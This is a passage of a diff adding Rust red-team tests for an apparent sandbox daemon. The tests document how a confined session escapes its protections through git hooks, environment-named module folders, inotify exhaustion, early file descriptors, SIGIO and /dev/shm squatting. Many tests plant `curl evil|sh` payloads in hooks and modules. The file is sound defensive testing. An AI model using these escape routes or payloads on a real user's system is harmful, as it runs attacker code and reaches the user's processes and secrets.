@@ -8274,3 +8274,698 @@ fn writes_configuration_where_the_users_bashrc_moves_xdg_config_home() {
     let open = not_refused(&["git's configuration there", "an autostart entry there", "a user unit there"], &r[1..]);
     assert!(open.is_empty(), "the never places ~/.bashrc moves with XDG_CONFIG_HOME, written: {open:?}");
 }
+
+// ---------------------------------------------------------------------------------------
+// Twelfth pass: where the configuration watch and its rereading end (a root the session
+// filled past the rereading scan's bound, a tree moved in with more entries than the
+// walk, a worktree's `.git` file rewritten in place, a descriptor opened before the
+// place was named, the kernel's own bound on inotify watches, a repository outside the
+// home and the roots, a bare repository's `core.worktree`), the starter's environment
+// beyond the variables read (module folders, git's own exec path and settings, the
+// credentials its tools' variables move), a history `~/.bashrc` moves, the programs ssh's
+// and tmux's configuration runs, a file's signals turned on for an owner the session did
+// not choose (`O_ASYNC`, `FIOASYNC`), and a name in a shared place that a tool of the
+// user's opens after the session made it.
+
+/// A repository of the user's at `dir` (its `.git` with `HEAD` and `config`) whose
+/// configuration names the visible folder `hooks_rel` of its worktree as `core.hooksPath`,
+/// with a `pre-commit` hook there.
+fn users_repo_with_hooks_path(dir: &Path, hooks_rel: &str) {
+    make(&dir.join(".git/HEAD"), Some("ref: refs/heads/main\n"));
+    make(&dir.join(".git/config"), Some(&format!("[core]\n\trepositoryformatversion = 0\n\thooksPath = {hooks_rel}\n")));
+    make(&dir.join(hooks_rel).join("pre-commit"), Some("#!/bin/sh\n"));
+}
+
+/// Writes the hooks of a repository the user clones into the session's root while it runs,
+/// after the session filled its root with 20,500 files of its own (a build's output, a
+/// `node_modules`, an unpacked data set: any project of size holds more than 20,000
+/// entries). The user's `git clone` into `vendor/lib` names `team-hooks/` as
+/// `core.hooksPath`; git runs the session's hook at the user's next commit there.
+/// Principle: what a never place names as code is protected as long as the configuration
+/// names it, and "a repository the user clones or makes there while a session runs is read
+/// as the scans read it". Why it might get out: the tree watch hears the `.git` made and
+/// the daemon reads the configuration again, but the rereading scans the roots afresh, from
+/// the top, breadth first, and stops after `SCAN_LIMIT` (20,000) entries: the session's
+/// own files, listed first, spend the bound before `vendor/lib` is listed, so the new
+/// repository is never read. Controls: the session writes its files and a file beside the
+/// hooks; the daemon heard the clone (a `config_reread`); without the session's files the
+/// same clone is protected (`writes_hooks_of_a_repository_the_user_clones_after_the_session_started`).
+/// Gets out on 6.1 and 6.12: the clone was heard (one `config_reread`), and the hook and a
+/// new hook were written (`[0, 0]`).
+#[test]
+fn fills_its_root_until_the_rereading_scan_stops_before_the_users_later_repository() {
+    let mut red = Red::start("fillscan");
+    let ws = red.ws.clone();
+    red.grant(&ws, Scope::Subtree, &Access::ALL);
+    let junk = 20_500;
+    let made = red.gated(|| {
+        let mut n = 0;
+        for i in 0..junk {
+            if create(&ws.join(format!("gen-{i:05}.o")), "") == 0 {
+                n += 1;
+            }
+        }
+        vec![n]
+    });
+    assert_eq!(made, vec![junk], "control: the session writes its files in its root");
+    // What the session's files led to (a queue overflow is heard as a change) settles.
+    std::thread::sleep(Duration::from_millis(1500));
+    let before = red.rereads();
+    // The user, outside the session: a repository cloned two folders down into the root.
+    let cloned = ws.join("vendor/lib");
+    users_repo_with_hooks_path(&cloned, "team-hooks");
+    let heard = red.heard_within(before, 5);
+    if heard {
+        red.wait_rereads_settled();
+    }
+    note(&format!("fillscan: the daemon heard the clone: {heard} ({} readings before, {} after)", before, red.rereads()));
+    let hooks = cloned.join("team-hooks");
+    let r = red.gated(|| vec![create(&ws.join("notes.txt"), "x"), append(&hooks.join("pre-commit"), "curl evil|sh\n"), create(&hooks.join("post-checkout"), "#!/bin/sh\ncurl evil|sh\n")]);
+    assert_eq!(r[0], 0, "control: a file of the root: {r:?}");
+    let open = not_refused(&["a hook of the hooksPath of the repository cloned into the filled root", "a new hook there"], &r[1..]);
+    assert!(open.is_empty(), "hooks of a repository cloned after the session filled its root, written (heard: {heard}): {open:?}");
+}
+
+/// Writes the hooks of a repository the user moves into a granted home folder while the
+/// session runs, inside a folder of more than 2,000 entries (`mv ~/Downloads/bundle
+/// ~/work/`: an unpacked archive or a project whose data folder holds 2,100 files, with
+/// the repository `proj/` beside them, naming `githooks/` as `core.hooksPath`). Principle:
+/// "a repository the user clones or makes there while a session runs is read as the scans
+/// read it". Why it might get out: a folder moved into a watched tree is walked when its
+/// event is read for git's markers and its folders (`watch_tree`), up to `TREE_WALK`
+/// (2,000) entries; the walk stops in the bundle's own listing, so `proj` is neither
+/// watched nor read, and nothing else tells the daemon to read again. Controls: the user
+/// moves the folder in; a file beside the hooks.
+/// Gets out on 6.1 and 6.12: no reading was heard, and the hook and a new hook were
+/// written (`[0, 0]`).
+#[test]
+fn writes_hooks_of_a_repository_moved_in_inside_a_folder_of_more_entries_than_the_walk() {
+    system_dirs();
+    let mut c = Cleanup::default();
+    let top = home_folder(&mut c, "bigmove");
+    // Staged on the same filesystem, outside every watched folder (~/Downloads of a host
+    // where the session's scans do not reach it, an archive unpacked elsewhere).
+    let stage = udir(&format!("/srv/rtn-stage-{}", uniq()));
+    c.add(&stage);
+    let bundle = stage.join("bundle");
+    for i in 0..2_100 {
+        make(&bundle.join(format!("sample-{i:04}.csv")), Some("1,2,3\n"));
+    }
+    users_repo_with_hooks_path(&bundle.join("proj"), "githooks");
+    let mut red = Red::start("bigmove");
+    red.grant(&top, Scope::Subtree, &Access::ALL);
+    let before = red.rereads();
+    // The user, outside the session, after it started.
+    let moved = top.join("bundle");
+    std::fs::rename(&bundle, &moved).unwrap_or_else(|e| panic!("control: the user moves the folder in: {e}"));
+    let heard = red.heard_within(before, 3);
+    note(&format!("bigmove: the daemon heard the repository moved in: {heard}"));
+    let hooks = moved.join("proj/githooks");
+    let r = red.gated(|| vec![create(&moved.join("notes.txt"), "x"), append(&hooks.join("pre-commit"), "curl evil|sh\n"), create(&hooks.join("post-checkout"), "#!/bin/sh\ncurl evil|sh\n")]);
+    assert_eq!(r[0], 0, "control: a file beside them: {r:?}");
+    let open = not_refused(&["a hook of the hooksPath of the repository moved in", "a new hook there"], &r[1..]);
+    assert!(open.is_empty(), "hooks of a repository moved in inside a folder of 2,100 entries, written (heard: {heard}): {open:?}");
+}
+
+/// Writes the hooks folder a worktree's git directory names once the user rewrites the
+/// worktree's `.git` file in place: `wt/.git` holds `gitdir: /srv/gitdirs/a` when the session
+/// starts, and the user then points it at `/srv/gitdirs/b` (what `git worktree repair`, `git
+/// init --separate-git-dir` and `git submodule absorbgitdirs` do to an existing `.git` file:
+/// git's `write_file`, an `O_TRUNC` write of the same file), whose `config` names
+/// `githooks/` of the worktree as `core.hooksPath`. Principle: "the directory a `.git` file
+/// names" is a git directory whose places are protected, and a change is read while the
+/// session runs. Why it might get out: a tree folder is watched for names only (created,
+/// removed, moved: `config_watch::mask`), and the `.git` file is not a watched file of its
+/// own; a write in place changes no name, so the daemon never reads the new git directory.
+/// Controls: the rewrite is on disk; a file beside the hooks.
+/// Gets out on 6.1 and 6.12: the rewrite was not heard, and the hook and a new hook were
+/// written (`[0, 0]`).
+#[test]
+fn writes_hooks_a_worktrees_gitfile_names_after_the_user_rewrites_it_in_place() {
+    system_dirs();
+    let mut c = Cleanup::default();
+    let top = home_folder(&mut c, "gitfile");
+    let dirs = udir(&format!("/srv/rtn-gitdirs-{}", uniq()));
+    c.add(&dirs);
+    make(&dirs.join("a/HEAD"), Some("ref: refs/heads/main\n"));
+    make(&dirs.join("a/config"), Some("[core]\n\trepositoryformatversion = 0\n"));
+    make(&dirs.join("b/HEAD"), Some("ref: refs/heads/main\n"));
+    make(&dirs.join("b/config"), Some("[core]\n\trepositoryformatversion = 0\n\thooksPath = githooks\n"));
+    let wt = top.join("wt");
+    make(&wt.join(".git"), Some(&format!("gitdir: {}\n", dirs.join("a").display())));
+    make(&wt.join("githooks/pre-commit"), Some("#!/bin/sh\n"));
+    make(&wt.join("src/lib.rs"), Some("\n"));
+    let mut red = Red::start("gitfile");
+    red.grant(&top, Scope::Subtree, &Access::ALL);
+    let before = red.rereads();
+    // The user, outside the session, after it started: git's write of the `.git` file.
+    let now = format!("gitdir: {}\n", dirs.join("b").display());
+    std::fs::write(wt.join(".git"), &now).unwrap();
+    assert_eq!(std::fs::read_to_string(wt.join(".git")).unwrap(), now, "control: the rewrite is on disk");
+    let heard = red.heard_within(before, 3);
+    note(&format!("gitfile: the daemon heard the .git file rewritten: {heard}"));
+    let hooks = wt.join("githooks");
+    let r = red.gated(|| vec![append(&wt.join("src/lib.rs"), "\n"), append(&hooks.join("pre-commit"), "curl evil|sh\n"), create(&hooks.join("post-checkout"), "#!/bin/sh\ncurl evil|sh\n")]);
+    assert_eq!(r[0], 0, "control: a file of the worktree: {r:?}");
+    let open = not_refused(&["a hook of the hooksPath the rewritten .git file's git directory names", "a new hook there"], &r[1..]);
+    assert!(open.is_empty(), "hooks named after the user rewrote the worktree's .git file, written (heard: {heard}): {open:?}");
+}
+
+/// Rewrites a hook through a descriptor it opened before the user named the hook's folder:
+/// the session opens `~/x/hooks/pre-commit` for writing while the folder is an ordinary
+/// granted one, keeps the descriptor, and the user then runs `git config --global
+/// core.hooksPath ~/x/hooks`; once the daemon has read the change (a fresh open is
+/// refused), the session writes through its old descriptor, and git runs that at the
+/// user's next commit. Principle: what a never place names as code is never changed by a
+/// session while the configuration names it; the README's window is "the time between the
+/// user's change and the daemon's reading". Why it might get out: the kernel checks a write
+/// when the file is opened (`file_open`), and no hook sees a write through a descriptor
+/// already open (`file_permission` is not attached), so a descriptor opened inside the
+/// window keeps it open for as long as the session holds it. Controls: the session opens
+/// the hook before the change; after the rereading a fresh open is refused.
+/// Gets out on 6.1 and 6.12: the fresh open was refused, and the write through the early
+/// descriptor returned 0 (the hook holds `curl evil|sh`).
+#[test]
+fn rewrites_a_hook_through_a_descriptor_opened_before_the_user_named_its_folder() {
+    let mut c = Cleanup::default();
+    let top = home_folder(&mut c, "earlyfd");
+    let rel = top.strip_prefix(HOME).unwrap().display().to_string();
+    let hooks = top.join("hooks");
+    make(&hooks.join("pre-commit"), Some("#!/bin/sh\n"));
+    let gc = PathBuf::from(home(".gitconfig"));
+    let _restore = users_file_for_a_test(&gc, "[user]\n\tname = u\n");
+    let mut red = Red::start("earlyfd");
+    red.grant(&top, Scope::Subtree, &Access::ALL);
+    let (mut go, mut res) = ([0; 2], [0; 2]);
+    // SAFETY: pipes into local arrays.
+    unsafe {
+        assert_eq!(libc::pipe(go.as_mut_ptr()), 0);
+        assert_eq!(libc::pipe(res.as_mut_ptr()), 0);
+    }
+    let (go_r, res_w) = (go[0], res[1]);
+    let hook = cpath(&hooks.join("pre-commit"));
+    let (_writer, fd) = pincer_tests::HeldProcess::start(
+        Some(&red.cg),
+        UID,
+        // SAFETY: open on a valid C string; the descriptor is kept.
+        || unsafe {
+            let fd = libc::open(hook.as_ptr(), libc::O_WRONLY | libc::O_APPEND);
+            if fd < 0 {
+                -errno()
+            } else {
+                fd
+            }
+        },
+        // SAFETY: read/write of inherited pipes and the kept descriptor with local buffers.
+        move |fd| unsafe {
+            let mut b = 0u8;
+            libc::read(go_r, (&mut b as *mut u8).cast(), 1);
+            let data = b"curl evil|sh\n";
+            let r = if libc::write(fd, data.as_ptr().cast(), data.len()) < 0 { errno() } else { 0 };
+            libc::write(res_w, (&r as *const i32).cast(), 4);
+        },
+    );
+    assert!(fd >= 0, "control: the session opens the hook while its folder is an ordinary one: errno {}", -fd);
+    // The user, outside the session: `git config --global core.hooksPath` (a lock file
+    // renamed over the file).
+    let before = red.rereads();
+    let lock = PathBuf::from(home(".gitconfig.lock"));
+    make(&lock, Some(&format!("[user]\n\tname = u\n[core]\n\thooksPath = ~/{rel}/hooks\n")));
+    std::fs::rename(&lock, &gc).unwrap();
+    assert!(red.heard_within(before, 5), "control: the daemon reads the change");
+    red.wait_rereads_settled();
+    let fresh = red.gated(|| vec![append(&hooks.join("pre-commit"), "curl evil|sh\n")]);
+    assert!(refused(fresh[0]), "control: a fresh open of the hook after the rereading is refused: {fresh:?}");
+    let mut got = -1i32;
+    // SAFETY: write/read of our pipes with local buffers.
+    unsafe {
+        libc::write(go[1], b"g".as_ptr().cast(), 1);
+        libc::read(res[0], (&mut got as *mut i32).cast(), 4);
+        for f in [go[0], go[1], res[0], res[1]] {
+            libc::close(f);
+        }
+    }
+    let text = std::fs::read_to_string(hooks.join("pre-commit")).unwrap_or_default();
+    note(&format!("earlyfd: write through the early descriptor: {got}; the hook now holds {text:?}"));
+    assert!(refused(got) || !text.contains("curl"), "the hook the user's configuration now names, rewritten through a descriptor opened before: {got}");
+}
+
+/// How many inotify watches process `pid` holds (the `inotify wd:` lines of its
+/// descriptors' `fdinfo`).
+fn inotify_watches(pid: u32) -> usize {
+    let Ok(fds) = std::fs::read_dir(format!("/proc/{pid}/fdinfo")) else { return 0 };
+    fds.flatten().map(|f| std::fs::read_to_string(f.path()).unwrap_or_default().lines().filter(|l| l.starts_with("inotify wd:")).count()).sum()
+}
+
+/// Spends the kernel's inotify watches of root, whose daemon watches every user's
+/// configuration, by making folders in its own root (each folder of a watched tree is
+/// watched, up to the daemon's own bound of 32,768 per owner; the kernel's
+/// `fs.inotify.max_user_watches` is scaled to memory, about 16,000 on a host of 1.7 GB),
+/// then writes the hooks folder that a file the user's `~/.gitconfig` includes names once
+/// the user adds the include and then the setting: `[include] path =
+/// /srv/team/git.inc` (a team's shared settings), and later `core.hooksPath` in that file.
+/// Principle: what a never place names as code is protected as long as the configuration
+/// names it; "a file the places were read from" is watched, and "no owner's sessions spend
+/// another's share" of the watches. Why it might get out: the new include's folder needs a
+/// new watch, which the kernel refuses (`ENOSPC`) once the session's folders took the
+/// rest; `Folders::add` only logs it, so the later change is never heard and never read.
+/// Controls: the session makes its folders; the daemon heard the include added.
+/// Gets out on 6.1 and 6.12: `max_user_watches` was 8,192 in the VM; the daemon held 20
+/// watches at start and 8,192 after the session's folders; the include was heard, the
+/// setting in it was not, and the hook and a new hook were written (`[0, 0]`).
+#[test]
+fn spends_the_daemons_inotify_watches_so_a_later_included_file_goes_unwatched() {
+    system_dirs();
+    let mut c = Cleanup::default();
+    let top = home_folder(&mut c, "watchspend");
+    let rel = top.strip_prefix(HOME).unwrap().display().to_string();
+    let hooks = top.join("hooks");
+    make(&hooks.join("pre-commit"), Some("#!/bin/sh\n"));
+    let team = udir(&format!("/srv/rtn-team-{}", uniq()));
+    c.add(&team);
+    let inc = team.join("git.inc");
+    make(&inc, Some("[user]\n\temail = u@example.com\n"));
+    let gc = PathBuf::from(home(".gitconfig"));
+    let _restore = users_file_for_a_test(&gc, "[user]\n\tname = u\n");
+    let limit: usize = std::fs::read_to_string("/proc/sys/fs/inotify/max_user_watches").unwrap().trim().parse().unwrap();
+    let mut red = Red::start("watchspend");
+    let ws = red.ws.clone();
+    red.grant(&ws, Scope::Subtree, &Access::ALL);
+    red.grant(&top, Scope::Subtree, &Access::ALL);
+    let daemon = red.daemon.id();
+    let at_start = inotify_watches(daemon);
+    let want = limit.min(40_000);
+    let spend = ws.join("spend");
+    let made = red.gated(|| {
+        let mut n = i32::from(mkdir(&spend) == 0);
+        for i in 0..want {
+            if mkdir(&spend.join(format!("d{i:05}"))) == 0 {
+                n += 1;
+            }
+            if i % 500 == 499 {
+                std::thread::sleep(Duration::from_millis(30));
+            }
+        }
+        vec![n]
+    });
+    assert_eq!(made, vec![want as i32 + 1], "control: the session makes its folders");
+    std::thread::sleep(Duration::from_millis(2000));
+    let spent = inotify_watches(daemon);
+    // The user, outside the session: the include added (git's lock file and rename).
+    let before = red.rereads();
+    let lock = PathBuf::from(home(".gitconfig.lock"));
+    make(&lock, Some(&format!("[user]\n\tname = u\n[include]\n\tpath = {}\n", inc.display())));
+    std::fs::rename(&lock, &gc).unwrap();
+    assert!(red.heard_within(before, 5), "control: the daemon reads the include added");
+    red.wait_rereads_settled();
+    // Later, the setting in the included file, written in place (an editor, `git config -f`).
+    let before = red.rereads();
+    std::io::Write::write_all(&mut std::fs::OpenOptions::new().append(true).open(&inc).unwrap(), format!("[core]\n\thooksPath = ~/{rel}/hooks\n").as_bytes()).unwrap();
+    let heard = red.heard_within(before, 3);
+    if heard {
+        red.wait_rereads_settled();
+    }
+    note(&format!("watchspend: max_user_watches {limit}; the daemon's watches {at_start} at start, {spent} after the session's folders, {} now; the setting heard: {heard}", inotify_watches(daemon)));
+    let r = red.gated(|| vec![create(&top.join("notes.txt"), "x"), append(&hooks.join("pre-commit"), "curl evil|sh\n"), create(&hooks.join("post-checkout"), "#!/bin/sh\ncurl evil|sh\n")]);
+    assert_eq!(r[0], 0, "control: a file beside the hooks: {r:?}");
+    let open = not_refused(&["a hook of the hooksPath the later include names", "a new hook there"], &r[1..]);
+    assert!(open.is_empty(), "hooks named in an included file after the session spent the watches, written (heard: {heard}): {open:?}");
+}
+
+/// Writes the hooks folder of a repository outside the home and the session's roots: the
+/// user's projects under `/srv/work` (or `/data`, `/mnt/work`, `/opt/src`), granted to the
+/// session ("work in /srv/work"), where `proj/.git/config` names `githooks/` as
+/// `core.hooksPath`: git runs the session's hook at the user's next commit. Principle: the
+/// user's objects wherever they lie, and the places a repository's configuration names as
+/// code are never changed. Why it might get out: git directories are found by the scans of
+/// the session's named roots and of the home (`seed_scan`, `seed_hidden_targets`); a grant
+/// elsewhere reaches a repository neither scan saw, and the kernel's `**/.git/...` patterns
+/// protect only what lies under `.git`. Controls: the user writes the hook; a file of the
+/// repository.
+/// Gets out on 6.1 and 6.12: `.git/config` was refused (the kernel's `**/.git/config`), the
+/// hook and a new hook in `githooks/` were written (`[0, 0]`).
+#[test]
+fn writes_a_hook_of_a_repository_outside_the_home_and_the_roots() {
+    system_dirs();
+    let mut c = Cleanup::default();
+    let work = udir(&format!("/srv/rtn-work-{}", uniq()));
+    c.add(&work);
+    let proj = work.join("proj");
+    users_repo_with_hooks_path(&proj, "githooks");
+    make(&proj.join("src/lib.rs"), Some("\n"));
+    let hooks = proj.join("githooks");
+    assert_eq!(ungated(|| vec![open_w(&hooks.join("pre-commit"))]), vec![0], "control: the user writes the hook");
+    let mut red = Red::start("srvrepo");
+    red.grant(&work, Scope::Subtree, &Access::ALL);
+    let r = red.gated(|| vec![append(&proj.join("src/lib.rs"), "\n"), append(&proj.join(".git/config"), "[core]\n\tfsmonitor = curl evil|sh\n"), append(&hooks.join("pre-commit"), "curl evil|sh\n"), create(&hooks.join("post-checkout"), "#!/bin/sh\ncurl evil|sh\n")]);
+    assert_eq!(r[0], 0, "control: a file of the repository: {r:?}");
+    let open = not_refused(&["its .git/config", "a hook of its hooksPath", "a new hook there"], &r[1..]);
+    assert!(open.is_empty(), "a repository under /srv outside the home and the roots, written: {open:?}");
+}
+
+/// Writes the hooks folder a bare-layout repository names relative to the work tree its
+/// configuration sets: `dots.git` (a git directory kept apart, as the "bare repository for
+/// dotfiles" setups and `git --separate-git-dir` do) with `core.worktree = ~/x/tree` and
+/// `core.hooksPath = githooks`; git runs a hook from the root of the working tree, so
+/// `~/x/tree/githooks/pre-commit` runs at the user's next commit. Principle: a
+/// repository's places are read "relative ones from the repository's worktree". Why it
+/// might get out: a directory found by a `HEAD` beside its `config` is taken as its own
+/// worktree (`seed_git_entry`), so the relative folder is protected under `dots.git/`,
+/// where git never looks, and `core.worktree` is not read. Controls: a file beside the
+/// hooks; the user writes the hook.
+/// Gets out on 6.1 and 6.12: the hook and a new hook were written (`[0, 0]`).
+#[test]
+fn writes_hooks_a_separate_git_directory_names_relative_to_its_core_worktree() {
+    let mut c = Cleanup::default();
+    let top = home_folder(&mut c, "coreworktree");
+    let tree = top.join("tree");
+    make(&tree.join("githooks/pre-commit"), Some("#!/bin/sh\n"));
+    make(&tree.join("notes.md"), Some("\n"));
+    let git = top.join("dots.git");
+    make(&git.join("HEAD"), Some("ref: refs/heads/main\n"));
+    make(&git.join("objects/info"), None);
+    make(&git.join("refs/heads"), None);
+    make(&git.join("config"), Some(&format!("[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = {}\n\thooksPath = githooks\n", tree.display())));
+    let hooks = tree.join("githooks");
+    assert_eq!(ungated(|| vec![open_w(&hooks.join("pre-commit"))]), vec![0], "control: the user writes the hook");
+    let mut red = Red::start("coreworktree");
+    red.grant(&top, Scope::Subtree, &Access::ALL);
+    let r = red.gated(|| vec![append(&tree.join("notes.md"), "x\n"), append(&hooks.join("pre-commit"), "curl evil|sh\n"), create(&hooks.join("post-checkout"), "#!/bin/sh\ncurl evil|sh\n")]);
+    assert_eq!(r[0], 0, "control: a file of the work tree: {r:?}");
+    let open = not_refused(&["a hook of the hooksPath relative to core.worktree", "a new hook there"], &r[1..]);
+    assert!(open.is_empty(), "hooks a separate git directory names relative to its core.worktree, written: {open:?}");
+}
+
+/// Plants code in the places the environment of the user's process that started the
+/// session names beyond the variables read: module folders (`PYTHONPATH`, searched before
+/// the standard library, so a `json.py` there is what the user's next Python imports;
+/// `PERL5LIB`, which `eval "$(perl -Mlocal::lib)"` sets; `NODE_PATH`; `RUBYLIB`), git's
+/// own program folder (`GIT_EXEC_PATH`: `git-remote-https` there runs at every fetch), and
+/// a git setting given by the environment (`GIT_CONFIG_COUNT=1`,
+/// `GIT_CONFIG_KEY_0=core.hooksPath`, `GIT_CONFIG_VALUE_0=~/x/hooks`, as direnv and CI
+/// set), git's template folder (`GIT_TEMPLATE_DIR`: its `hooks/` are copied into every
+/// repository the user clones, and `post-checkout` runs at once) and cargo's home
+/// (`CARGO_HOME`: its `config.toml` names a `rustc-wrapper` every build runs; the never
+/// list names `~/.cargo/config.toml`). Granted: the visible folder holding them. Principle: "the places the environment
+/// of the user's process that started the session names" are protected. Why it might get
+/// out: `of_environment` reads `PATH`, `LD_LIBRARY_PATH`, `ZDOTDIR`, the program variables
+/// and the XDG homes, and no other. Control: a file beside them.
+/// Gets out on 6.1 and 6.12: all eight written (`PYTHONPATH`, `PERL5LIB`, `NODE_PATH`,
+/// `RUBYLIB`, `GIT_EXEC_PATH`, `GIT_CONFIG_KEY_0`, `GIT_TEMPLATE_DIR`, `CARGO_HOME`: 0 each).
+#[test]
+fn plants_code_in_module_folders_and_git_settings_the_starters_environment_names() {
+    let mut c = Cleanup::default();
+    let top = home_folder(&mut c, "envmods");
+    let dirs = ["pylib", "perl5/lib/perl5", "node", "ruby", "git-core", "hooks", "templates/hooks", "cargo"];
+    for d in dirs {
+        make(&top.join(d).join("keep"), Some("\n"));
+    }
+    make(&top.join("hooks/pre-commit"), Some("#!/bin/sh\n"));
+    let p = |d: &str| top.join(d).display().to_string();
+    let env = [
+        ("PYTHONPATH", p("pylib")),
+        ("PERL5LIB", p("perl5/lib/perl5")),
+        ("NODE_PATH", p("node")),
+        ("RUBYLIB", p("ruby")),
+        ("GIT_EXEC_PATH", p("git-core")),
+        ("GIT_CONFIG_COUNT", "1".to_string()),
+        ("GIT_CONFIG_KEY_0", "core.hooksPath".to_string()),
+        ("GIT_CONFIG_VALUE_0", p("hooks")),
+        ("GIT_TEMPLATE_DIR", p("templates")),
+        ("CARGO_HOME", p("cargo")),
+    ];
+    let mut red = Red::start_env("envmods", &[], &env, |_| {});
+    red.grant(&top, Scope::Subtree, &Access::ALL);
+    let r = red.gated(|| {
+        vec![
+            create(&top.join("notes.txt"), "x"),
+            create(&top.join("pylib/json.py"), "import os; os.system('curl evil|sh')\n"),
+            create(&top.join("perl5/lib/perl5/strict.pm"), "system('curl evil|sh'); 1;\n"),
+            create(&top.join("node/lodash.js"), "require('child_process').execSync('curl evil|sh')\n"),
+            create(&top.join("ruby/json.rb"), "system('curl evil|sh')\n"),
+            create(&top.join("git-core/git-remote-https"), "#!/bin/sh\ncurl evil|sh\n"),
+            append(&top.join("hooks/pre-commit"), "curl evil|sh\n"),
+            create(&top.join("templates/hooks/post-checkout"), "#!/bin/sh\ncurl evil|sh\n"),
+            create(&top.join("cargo/config.toml"), "[build]\nrustc-wrapper = \"/tmp/evil\"\n"),
+        ]
+    });
+    assert_eq!(r[0], 0, "control: a file beside them: {r:?}");
+    let open = not_refused(&["PYTHONPATH", "PERL5LIB", "NODE_PATH", "RUBYLIB", "GIT_EXEC_PATH", "GIT_CONFIG_KEY_0=core.hooksPath", "GIT_TEMPLATE_DIR's hooks", "CARGO_HOME's config.toml"], &r[1..]);
+    assert!(open.is_empty(), "code planted where the starter's environment loads it from: {open:?}");
+}
+
+/// A pipe, and a process of the user's outside every session that owns the read end's
+/// signals (`F_SETOWN` to itself: a program that takes `SIGURG`, or sets the owner once and
+/// turns signal-driven I/O on later) without `O_ASYNC` and without handling `SIGIO`, whose
+/// default action ends it; the description shared with a session (the standard input
+/// `pincer run` passes on). The process and the pipe's two ends.
+fn users_owned_pipe() -> (pincer_tests::HeldProcess, i32, i32) {
+    let mut p = [0; 2];
+    // SAFETY: pipe into a local array.
+    assert_eq!(unsafe { libc::pipe(p.as_mut_ptr()) }, 0);
+    let r = p[0];
+    let (held, v) = pincer_tests::HeldProcess::start(
+        None,
+        UID,
+        // SAFETY: signal/fcntl on the inherited descriptor.
+        || unsafe {
+            libc::signal(libc::SIGIO, libc::SIG_DFL);
+            if libc::fcntl(r, libc::F_SETOWN, libc::getpid()) < 0 {
+                return -errno();
+            }
+            0
+        },
+        |_| {},
+    );
+    assert_eq!(v, 0, "the user's process owns the pipe's signals");
+    (held, p[0], p[1])
+}
+
+/// Turns signal-driven I/O on for a file description whose signals a process of the user's
+/// owns (`fcntl(F_SETFL, O_ASYNC)`, or `ioctl(FIOASYNC)`), then writes to the pipe: the
+/// kernel sends the owner `SIGIO` on the file's behalf, which a process that does not
+/// handle it dies of. Principle: nothing "that acts on the user's other processes" is
+/// reachable, and "a file's signals ... go only to the process that asks". Why it might get
+/// out: the reach checks watch who the owner is (`F_SETOWN`, `F_SETOWN_EX`, `FIOSETOWN`,
+/// `SIOCSPGRP`) and which signal (`F_SETSIG`), but not whether signals are sent at all:
+/// `O_ASYNC` is a flag of the description (`F_SETFL`, `FIOASYNC`), and `send_sigio` checks
+/// the credentials of the process that set the owner, here the user's. Controls: the
+/// session's write alone leaves the user's process running; the user's own process does the
+/// same and ends it.
+/// Gets out on 6.1 and 6.12: `F_SETFL` and `FIOASYNC` were let through (`[0, 0]` each) and
+/// the user's process ended by `SIGIO` both times.
+#[test]
+fn kills_the_users_process_by_turning_on_signal_driven_io_on_a_description_it_owns() {
+    let by_setfl = |r: i32, w: i32| {
+        // SAFETY: fcntl/write on inherited descriptors and a local buffer.
+        unsafe {
+            let fl = libc::fcntl(r, libc::F_GETFL);
+            let s = rc(libc::fcntl(r, libc::F_SETFL, fl | libc::O_ASYNC | libc::O_NONBLOCK) as i64);
+            let w1 = rc(libc::write(w, b"x".as_ptr().cast(), 1) as i64);
+            vec![s, w1]
+        }
+    };
+    let by_ioctl = |r: i32, w: i32| {
+        // SAFETY: ioctl/write on inherited descriptors and local buffers.
+        unsafe {
+            let on: libc::c_int = 1;
+            let s = rc(libc::ioctl(r, libc::FIOASYNC, &on) as i64);
+            let w1 = rc(libc::write(w, b"x".as_ptr().cast(), 1) as i64);
+            vec![s, w1]
+        }
+    };
+    let close = |r: i32, w: i32| {
+        // SAFETY: close of our own descriptors.
+        unsafe {
+            libc::close(r);
+            libc::close(w);
+        }
+    };
+    let (users, r, w) = users_owned_pipe();
+    let out = ungated(|| by_setfl(r, w));
+    std::thread::sleep(Duration::from_millis(200));
+    assert_eq!(out, vec![0, 0], "control: the user's own process turns O_ASYNC on and writes");
+    assert!(ended(users.pid()), "control: the user's process ends by SIGIO");
+    drop(users);
+    close(r, w);
+    let red = Red::start("oasync");
+    let mut got = Vec::new();
+    for (how, route) in [("F_SETFL O_ASYNC", &by_setfl as &dyn Fn(i32, i32) -> Vec<i32>), ("FIOASYNC", &by_ioctl)] {
+        let (users, r, w) = users_owned_pipe();
+        // SAFETY: write on an inherited descriptor and a local buffer.
+        let alone = red.gated(|| vec![rc(unsafe { libc::write(w, b"z".as_ptr().cast(), 1) } as i64)]);
+        std::thread::sleep(Duration::from_millis(200));
+        assert!(alone == vec![0] && !ended(users.pid()), "control: the session's write alone leaves the user's process running ({alone:?})");
+        let r2 = red.gated(|| route(r, w));
+        std::thread::sleep(Duration::from_millis(200));
+        let dead = ended(users.pid());
+        close(r, w);
+        got.push((how, r2, dead));
+    }
+    note(&format!("oasync: {got:?}"));
+    let killed: Vec<_> = got.iter().filter(|(_, _, dead)| *dead).collect();
+    assert!(killed.is_empty(), "the user's process killed by SIGIO the session turned on: {killed:?}");
+}
+
+/// Makes first a name in `/dev/shm` that a program of the user's opens with `O_CREAT` and
+/// no `O_EXCL` (a shared memory segment or cache of a fixed name: `shm_open("/app-state",
+/// O_CREAT | O_RDWR)`), as the session's own object of mode 0600; the user's program then
+/// opens it, as the session's uid is the user's, and keeps its state there, which the
+/// session reads. Granted: create in `/dev/shm` (a session's own shared memory, Python's
+/// `multiprocessing`). Principle: nothing of the user's is reachable otherwise; a session
+/// may not "pose as the server of a Unix socket an outside tool connects to", the same
+/// squatting of a name in a shared place ("a path in a shared place that one of the user's
+/// tools expects"). Why it might get out: the session's object is its own by object, and
+/// the user's processes outside every session are not gated, so nothing refuses them the
+/// session's file as `unix_connect(inbound)` refuses them its socket. Controls: the
+/// session makes the object; the user's program writes its state.
+/// Gets out on 6.1 and 6.12: the user's program opened and wrote the session's object
+/// (`[0]`) and the session read the state back (`[0]`).
+#[test]
+fn reads_the_state_a_users_program_keeps_in_a_shared_memory_name_it_made_first() {
+    let mut c = Cleanup::default();
+    let n = uniq();
+    let name = CString::new(format!("/rtn-app-state-{n}")).unwrap();
+    let path = PathBuf::from(format!("/dev/shm/rtn-app-state-{n}"));
+    c.add(&path);
+    let secret = "token=the-users-session-cookie";
